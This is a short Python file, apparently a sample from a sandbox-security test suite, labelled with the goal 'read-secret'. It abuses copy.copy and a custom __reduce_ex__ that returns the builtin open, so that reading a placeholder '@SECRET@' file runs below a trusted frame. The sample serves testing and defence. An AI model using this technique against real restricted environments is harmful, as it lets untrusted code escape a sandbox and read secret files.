# technique: copy calls what __reduce_ex__ names: open, below a trusted frame
# goal: read-secret
# source: own analysis: attacker's C callables below a trusted frame
import copy


class Carrier:
    def __reduce_ex__(self, version):
        return open, ('@SECRET@',)


print(copy.copy(Carrier()).read())
